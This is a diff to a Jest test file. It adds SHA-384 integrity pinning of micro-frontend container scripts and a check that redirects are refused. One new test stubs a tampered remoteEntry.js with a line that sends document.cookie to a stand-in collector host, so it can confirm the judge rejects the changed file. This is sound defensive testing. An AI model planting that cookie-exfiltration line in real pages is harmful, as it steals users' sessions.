@@ -1,4 +1,5 @@
 /** @jest-environment node */
+import { createHash } from 'node:crypto';
 import { TEST_REGISTRY } from '../../src/testing/stepRegistry';
 import { parseRegistry } from '../remotes';
 import { JOURNEY_MAJOR, stepManifest } from '../testing';
@@ -23,12 +24,21 @@ const registryWith = (changes: Record<string, unknown> = {}) =>
     }),
   );
 
-/** Step servers answering each manifest URL with `manifests[url]`, else a build fit for its step; counts the loads. */
-function stepServers(manifests: Record<string, unknown> = {}) {
+const ENTRY_SCRIPT = 'var greencard_step;';
+const ENTRY_INTEGRITY = `sha384-${createHash('sha384').update(ENTRY_SCRIPT).digest('base64')}`;
+
+/**
+ * Step servers answering each manifest URL with `manifests[url]`, else a build fit for its step, and each container
+ * script with `entries[url]`, else ENTRY_SCRIPT; counts the manifests' loads and keeps how each file was asked for.
+ */
+function stepServers(manifests: Record<string, unknown> = {}, entries: Record<string, string> = {}) {
   const loads: string[] = [];
+  const asked: RequestInit[] = [];
   const byPort = Object.fromEntries(Object.keys(TEST_REGISTRY).map((step, index) => [String(9001 + index), step]));
-  const fetchImpl = (async (input: string | URL | Request) => {
+  const fetchImpl = (async (input: string | URL | Request, init?: RequestInit) => {
     const url = String(input);
+    asked.push(init ?? {});
+    if (url.endsWith('/remoteEntry.js')) return new Response(entries[url] ?? ENTRY_SCRIPT);
     loads.push(url);
     if (url in manifests) {
       const answer = manifests[url];
@@ -37,10 +47,10 @@ function stepServers(manifests: Record<string, unknown> = {}) {
     }
     return Response.json(fitFor(byPort[new URL(url).port] as string));
   }) as typeof fetch;
-  return { fetchImpl, loads };
+  return { fetchImpl, loads, asked };
 }
 
-async function refusalOf(promise: Promise<void>) {
+async function refusalOf(promise: Promise<unknown>) {
   try {
     await promise;
   } catch (error) {
@@ -71,10 +81,34 @@ const versioned = (changes: Record<string, unknown>) => ({
 });
 
 describe("the server's judge of a registry", () => {
-  it('lets a registry whose every build passes the release checks go live', async () => {
-    const { fetchImpl, loads } = stepServers();
-    await expect(createRegistryJudge({ shell: SHELL, fetchImpl })(registryWith())).resolves.toBeUndefined();
+  it('lets a registry whose every build passes the release checks go live, with the hash of each container script', async () => {
+    const { fetchImpl, loads, asked } = stepServers();
+    const pins = await createRegistryJudge({ shell: SHELL, fetchImpl })(registryWith());
+    expect([...pins.values()]).toEqual(Array(5).fill(ENTRY_INTEGRITY));
     expect(loads).toHaveLength(5);
+    // Only the step's own origin answers: a redirect elsewhere is an error, never followed.
+    expect(asked.every((init) => init.redirect === 'error')).toBe(true);
+  });
+
+  it('refuses a registry whose container script is not the one its release pinned: a file changed after the release', async () => {
+    const { fetchImpl } = stepServers(
+      { [POINTS_NEXT]: versioned({}) },
+      { 'http://127.0.0.1:9004/1.1.0+next/remoteEntry.js': 'fetch("https://collector.example/?c="+document.cookie);' },
+    );
+    const registry = registryWith({
+      points: {
+        ...TEST_REGISTRY.points,
+        manifest: 'http://127.0.0.1:9004/mf-manifest.json',
+        integrity: ENTRY_INTEGRITY,
+        trial: { ...TEST_REGISTRY.points, manifest: POINTS_NEXT, integrity: ENTRY_INTEGRITY, share: 10 },
+      },
+    });
+    expect(await refusalOf(createRegistryJudge({ shell: SHELL, fetchImpl })(registry))).toEqual({
+      reason: 'build',
+      message: expect.stringContaining(
+        `points ${POINTS_NEXT}: its remoteEntry.js is not the file its release pinned: it changed after its release`,
+      ),
+    });
   });
 
   it.each<[string, unknown, string]>([
@@ -126,7 +160,7 @@ describe("the server's judge of a registry", () => {
     });
     manifests[POINTS_NEXT] = versioned({});
     now = 10_000;
-    await expect(judge(registry)).resolves.toBeUndefined();
+    await expect(judge(registry)).resolves.toBeInstanceOf(Map);
     expect(loads.filter((url) => url === POINTS_NEXT)).toHaveLength(3);
   });
 
@@ -163,7 +197,7 @@ describe("the server's judge of a registry", () => {
     const registry = registryWith({
       calculator: { ...TEST_REGISTRY.calculator, manifest: '/no-federation/calculator/mf-manifest.json' },
     });
-    await expect(createRegistryJudge({ shell: SHELL, fetchImpl })(registry)).resolves.toBeUndefined();
+    await expect(createRegistryJudge({ shell: SHELL, fetchImpl })(registry)).resolves.toBeInstanceOf(Map);
     expect(loads).toHaveLength(4);
   });
 });
